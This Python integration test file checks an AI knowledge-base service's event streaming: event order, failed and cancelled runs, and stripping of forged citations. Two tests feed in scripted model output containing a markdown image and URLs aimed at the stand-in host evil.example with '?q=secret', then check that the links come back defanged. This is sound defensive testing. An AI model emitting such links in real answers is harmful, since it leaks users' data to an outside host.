"""Runs as server-sent events, through the gateway as people reach them."""

import asyncio
import json
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any, Final

import httpx
import pytest
from pydantic import TypeAdapter

from kb_contracts.api.run_events import RunEvent
from kb_local.ports import NO_TLS, free_port
from kb_local.python_server import GatewayProcess
from kb_local.server import poll_until
from kb_local.upstreams import UPSTREAMS
from kb_search.store import runs
from kb_search.store.keys import RunKey
from kb_search.store.runs import RunStatus
from kb_shared.mongo.database import Database
from tests.integration.runs.conftest import FENCE, Author, streamed
from tests.integration.search.conftest import ORGANIZATION
from tests.integration.search.knowledge import Knowledge
from tests.scripted_model import PATIENCE_S, ScriptedModel, call

RUN_EVENT: Final = TypeAdapter[Any](RunEvent)
LONG = "A fence is a write that fails, as passage [1] says, and that is all of it."


@pytest.fixture
async def reached(served: Author, tmp_path: Path) -> AsyncIterator[Author]:
    """The author, at the address of a gateway in front of a real server."""
    url = str(served.http.base_url)
    gateway = GatewayProcess(dict.fromkeys(UPSTREAMS, url), port=free_port(), log=tmp_path / "gateway.log")
    await gateway.start()
    async with httpx.AsyncClient(base_url=gateway.url, trust_env=False, verify=NO_TLS, timeout=300) as http:
        yield Author(http, served.key)
    await gateway.stop()


async def events(answer: httpx.Response) -> AsyncIterator[tuple[str, Any]]:
    name = ""
    async for line in answer.aiter_lines():
        if line.startswith("event: "):
            name = line.removeprefix("event: ")
        elif line.startswith("data: "):
            data = json.loads(line.removeprefix("data: "))
            described = RUN_EVENT.validate_python({"event": name, "data": data}).data
            assert data.keys() <= type(described).model_fields.keys()
            yield name, data


async def test_a_run_streams_an_event_for_each_step(
    reached: Author, knowledge: Knowledge, scripted: ScriptedModel
) -> None:
    search = call("search_knowledge_base", json.dumps({"query": FENCE}))
    await scripted.says({"tool_calls": [search]}, {"text": LONG})
    body = {
        "messages": [{"role": "user", "content": "?"}],
        "kb_ids": [knowledge.kb.kb_id],
        "model": scripted.name,
    }
    async with streamed(reached, body) as answer:
        assert answer.headers["content-type"].startswith("text/event-stream")
        received = [event async for event in events(answer)]
    names = list(dict.fromkeys(name for name, _ in received))
    assert names == [
        "run.started",
        "tool.called",
        "passage",
        "tool.returned",
        "answer.delta",
        "citation",
        "run.finished",
    ]
    assert "".join(data["text"] for name, data in received if name == "answer.delta") == LONG
    assert len([name for name, _ in received if name == "answer.delta"]) > 1
    last = received[-1][1]
    assert (last["status"], last["answer"], len(last["citations"])) == ("completed", LONG, 1)
    assert last == (await reached.ask("GET", f"/runs/{last['run_id']}")).json()


async def test_a_streamed_answer_links_only_to_addresses_that_the_run_has_read(
    reached: Author, scripted: ScriptedModel
) -> None:
    await scripted.says(
        {"text": "So it is, you see: ![a b](https://evil.example/?q=secret) and https://evil.example/secret"}
    )
    body = {"messages": [{"role": "user", "content": "?"}], "model": scripted.name}
    async with streamed(reached, body) as answer:
        received = [event async for event in events(answer)]
    assert len([name for name, _ in received if name == "answer.delta"]) > 1
    shown = "".join(data["text"] for name, data in received if name == "answer.delta")
    assert shown == received[-1][1]["answer"]
    assert shown == "So it is, you see: ![a b] (https[:]//evil.example/?q=secret) and https[:]//evil.example/secret"


async def test_a_forged_citation_is_not_streamed(
    reached: Author, knowledge: Knowledge, scripted: ScriptedModel
) -> None:
    search = call("search_knowledge_base", json.dumps({"query": FENCE}))
    await scripted.says(
        {"tool_calls": [search]}, {"text": "So it is [1], as you can see [7], in `rows[7]` and all of it."}
    )
    body = {
        "messages": [{"role": "user", "content": "?"}],
        "kb_ids": [knowledge.kb.kb_id],
        "model": scripted.name,
    }
    async with streamed(reached, body) as answer:
        received = [event async for event in events(answer)]
    shown = "".join(data["text"] for name, data in received if name == "answer.delta")
    assert shown == received[-1][1]["answer"] == "So it is [1], as you can see, in `rows[7]` and all of it."


@pytest.mark.parametrize("clean_strings", [True, False])
async def test_the_strings_of_an_answer_by_a_schema_are_streamed_in_their_final_form(
    reached: Author, scripted: ScriptedModel, *, clean_strings: bool
) -> None:
    written = '{"a": "it is, you see: ![a b](https://evil.example/?q=secret)", "b": [1, "and https://evil.example/"]}'
    await scripted.says({"text": written})
    body = {
        "messages": [{"role": "user", "content": "?"}],
        "model": scripted.name,
        "response_schema": {"type": "object"},
        "clean_strings": clean_strings,
    }
    async with streamed(reached, body) as answer:
        received = [event async for event in events(answer)]
    assert len([name for name, _ in received if name == "answer.delta"]) > 1
    shown = "".join(data["text"] for name, data in received if name == "answer.delta")
    assert shown == received[-1][1]["answer"]
    clean = written.replace("](", "] (").replace("https:", "https[:]")
    assert shown == (clean if clean_strings else written)


async def test_a_run_that_fails_says_so_in_its_last_event(reached: Author, scripted: ScriptedModel) -> None:
    await scripted.says({"text": LONG, "cut": True})
    body = {"messages": [{"role": "user", "content": "?"}], "model": scripted.name}
    async with streamed(reached, body) as answer:
        name, data = [event async for event in events(answer)][-1]
    assert (name, data["status"], data["error"]["type"]) == ("run.finished", "failed", "provider-unavailable")
    assert data["prompt_tokens"] > 0, "what broke off was paid for"
    assert data["completion_tokens"] > 0


async def test_a_caller_who_leaves_stops_the_work_and_the_run_is_kept_as_cancelled(
    reached: Author, scripted: ScriptedModel, search_database: Database
) -> None:
    await scripted.says({"text": LONG, "stall_s": 300})
    body = {"messages": [{"role": "user", "content": "?"}], "model": scripted.name}
    async with streamed(reached, body) as answer:
        received = events(answer)
        _, started = await anext(received)
        assert (await anext(received))[0] == "answer.delta"
    await scripted.wait_until_disconnected()

    async def is_cancelled() -> bool:
        return (await runs.get(search_database, RunKey(ORGANIZATION, started["run_id"]))).status is RunStatus.CANCELLED

    assert await poll_until(is_cancelled, timeout_s=PATIENCE_S)
    kept = await runs.get(search_database, RunKey(ORGANIZATION, started["run_id"]))
    assert kept.completion_tokens > 0, "what broke off was paid for"


async def test_a_caller_who_does_not_wait_for_the_answer_stops_the_work_too(
    reached: Author, scripted: ScriptedModel
) -> None:
    # The model counts only those as gone who did not wait for the end: long after the test.
    await scripted.says({"text": LONG, "delay_s": 300})
    body = {"messages": [{"role": "user", "content": "?"}], "model": scripted.name}
    asking = asyncio.create_task(reached.ask("POST", "/runs", body))
    await scripted.wait_for_requests()
    asking.cancel()
    await scripted.wait_until_disconnected()
